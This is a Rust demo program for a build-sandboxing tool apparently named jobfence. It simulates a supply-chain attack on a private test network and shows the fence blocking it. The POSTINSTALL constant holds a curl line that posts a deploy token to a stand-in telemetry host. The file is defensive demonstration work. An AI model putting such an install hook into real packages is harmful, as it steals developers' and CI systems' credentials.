//! The demonstration: a small build, one of whose dependencies sends a credential away, first
//! without the fence and then in it.
//!
//! Everything happens in a private internet made for it; no packet leaves the machine. Exits with
//! the fenced build's own exit code, which is 110.
#![forbid(unsafe_code)]

use std::{
    fs,
    path::Path,
    process::{Command, ExitCode, ExitStatus},
};

use anyhow::{Context as _, Result, ensure};
use jobfence_tests::{Arrivals, Data, Fence, Internet, addresses::BLOCKED, run};

/// What the repository allows its builds.
const POLICY: &str = "\
version: 1
jobs:
  default:
    allow:
      - host: git.test
        reason: our source
      - host: pkg.test
        reason: our packages
";

/// The build: fetch the source, fetch a dependency, run its install script, compile, run.
const BUILD: &str = "\
git clone -q https://git.test/app.git app && cd app
curl -sS https://pkg.test/leftpad-1.3.0.tar | tar x
sh leftpad-1.3.0/postinstall.sh
cc -o app main.c && ./app
";

const MAIN: &str = "\
#include <stdio.h>
int main(void) { puts(\"built, and running\"); }
";

/// What nobody read: the dependency's install script.
const POSTINSTALL: &str = "\
curl -sS -m 10 -o /dev/null --data \"token=$DEPLOY_TOKEN\" https://telemetry.leftpad.test/ || true
";

const DEADLINE: std::time::Duration = std::time::Duration::from_secs(60);

fn main() -> Result<ExitCode> {
    let internet = Internet::new()?;
    internet.add_record("telemetry.leftpad.test", Data::Address(BLOCKED.v4.into()));
    publish(&internet)?;

    println!("The build (its git and package servers are on a private internet, made for this):\n");
    println!("{}", indent(BUILD));
    println!(
        "Its policy, .jobfence.yml in its repository:\n\n{}",
        indent(POLICY)
    );

    println!("== Without the fence");
    let start = internet.mark();
    let mut build = internet.command("sh");
    let output = run(
        build.args(["-ec", BUILD]).env("DEPLOY_TOKEN", token()),
        DEADLINE,
    )?;
    print!("{}{}", output.stdout, output.stderr);
    let leaked = to_telemetry(&internet.attempts_since(start));
    ensure!(
        output.status.success(),
        "the build does not work without the fence"
    );
    ensure!(
        leaked > 0,
        "the dependency's script sent nothing: there is nothing to show"
    );
    println!(
        "-> it works; {leaked} packets, with the token in them, reached the dependency's own server\n"
    );

    println!("== With the fence: sudo jobfence run -- sh -ec …");
    fs::remove_dir_all(internet.home().join("app"))?;
    let start = internet.mark();
    let fence = Fence::new(&internet, POLICY)?;
    let (mut fenced, log) = fence.command(&["sh", "-ec", BUILD])?;
    let status: ExitStatus = fenced.env("DEPLOY_TOKEN", token()).status()?;
    let code = status
        .code()
        .context("the fenced build was ended by a signal")?;
    let leaked = to_telemetry(&internet.attempts_since(start));
    ensure!(leaked == 0, "{leaked} packets passed the fence");
    ensure!(code == 110, "the fenced build exited {code}, not 110");

    println!("\n-> 0 packets reached that server, and its name was asked of nobody.");
    println!(
        "-> The build itself went through; it is failed with exit code 110, the code for a violated policy."
    );
    println!("   Above: which process wanted what, and the line that would allow it.");
    let events = fs::read_to_string(log)?;
    let refused = events
        .lines()
        .find(|line| line.contains("\"violation\":true"))
        .unwrap_or_default();
    println!(
        "   The log has it as JSON, the token masked:\n\n{}",
        indent(refused)
    );
    Ok(ExitCode::from(u8::try_from(code)?))
}

/// Puts the source and the dependency on their servers.
fn publish(internet: &Internet) -> Result<()> {
    let git = internet.dir().join("git");
    let work = internet.dir().join("work");
    fs::create_dir_all(&git)?;
    fs::create_dir_all(&work)?;
    fs::write(work.join("main.c"), MAIN)?;
    let commit = "git init -q && git add . && \
                  git -c user.name=demo -c user.email=demo@allowed.test commit -q -m app && \
                  git clone -q --bare . \"$1/app.git\" && cd \"$1/app.git\" && git update-server-info";
    shell(&work, commit, &git)?;
    internet.serve_dir("git.test", &git);

    let packages = internet.dir().join("packages");
    let package = packages.join("leftpad-1.3.0");
    fs::create_dir_all(&package)?;
    fs::write(package.join("postinstall.sh"), POSTINSTALL)?;
    shell(
        &packages,
        "tar cf leftpad-1.3.0.tar leftpad-1.3.0",
        &packages,
    )?;
    internet.serve_dir("pkg.test", &packages);
    Ok(())
}

fn shell(folder: &Path, script: &str, argument: &Path) -> Result<()> {
    let mut command = Command::new("sh");
    command
        .args(["-ec", script, "sh"])
        .arg(argument)
        .current_dir(folder);
    let status = command.status().context("run sh")?;
    ensure!(status.success(), "{script}: {status}");
    Ok(())
}

fn to_telemetry(arrivals: &Arrivals) -> usize {
    BLOCKED
        .both()
        .into_iter()
        .map(|ip| arrivals.to(ip).len())
        .sum()
}

/// A stand-in for a credential, in the shape of one.
fn token() -> String {
    format!("ghp_{}", "0123456789".repeat(4))
}

fn indent(text: &str) -> String {
    text.lines().map(|line| format!("    {line}\n")).collect()
}
